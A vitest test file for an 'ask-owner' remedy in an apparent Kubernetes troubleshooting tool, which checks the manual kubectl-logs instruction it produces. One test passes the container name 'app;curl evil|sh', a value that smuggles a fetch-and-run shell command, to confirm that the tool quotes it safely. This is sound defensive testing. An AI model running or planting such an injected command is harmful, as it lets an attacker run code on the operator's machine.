import { describe, expect, it } from 'vitest';
import { assess } from '../../../assess.ts';
import { examine } from '../../../diagnose/rule.suite.ts';
import { deployment, node, NOW, pod, replicaSet, state } from '../../../diagnose/scene.suite.ts';
import { DEFAULT_POLICY } from '../../../policy/policy.ts';
import { Planning } from '../../planning.ts';
import {
  behaving,
  ref,
  remediesOf,
  rehearsedOn,
  workload,
  workloadScene,
} from '../../revisions/workload-scene.suite.ts';
import { askOwner } from './ask-owner.ts';

/** A program that fails since long after it was rolled out, for a reason of its own. */
function failing() {
  const scene = workloadScene(workload('Deployment', 'web'));
  behaving(scene, () => true, { startMs: 5000, exitsAfterMs: 500, exitCode: 3, lastWords: ['panic: out of luck'] });
  for (const { metadata } of scene.observe().listIn('Pod', 'shop')) scene.remove(ref('Pod', metadata.name));
  scene.wait(20);
  return scene;
}

describe('ask-owner', () => {
  it('says what was seen and where to look on, and restarts nothing', () => {
    const [remedy] = remediesOf(failing(), askOwner);
    const [change] = remedy?.drafts[0]?.changes ?? [];
    expect(change?.kind).toBe('manual');
    expect(change?.kind === 'manual' && change.instruction).toMatch(
      /kubectl logs deployment\/web -n shop -c web --previous/,
    );
  });

  it('is what is left where nothing else is known', () => {
    const { strategy } = rehearsedOn(failing());
    expect(strategy.plan.phases.flatMap(({ actions }) => actions.map(({ kind }) => kind))).toEqual(['ask-owner']);
  });

  it('names a container that no API server takes in words that a shell takes for one', () => {
    const name = 'app;curl evil|sh';
    const status = state.waiting('CrashLoopBackOff', '', { name, restartCount: 12, ...state.last(1, 'Error') });
    const objects = [
      ...[node(), deployment(1, 0), replicaSet('web-1', 1, 0)],
      pod('web-1-a', { containers: [{ name, image: 'web:1' }], statuses: [status] }),
    ];
    const { snapshot } = examine({ objects, observedAt: NOW });
    const assessment = assess(snapshot, { version: 'test' });
    const [remedy] = [...askOwner.propose(new Planning({ snapshot, assessment, policy: DEFAULT_POLICY }))];
    const [change] = remedy?.drafts[0]?.changes ?? [];
    expect(change?.kind === 'manual' && change.instruction).toContain("-c 'app;curl evil|sh' --previous");
  });
});
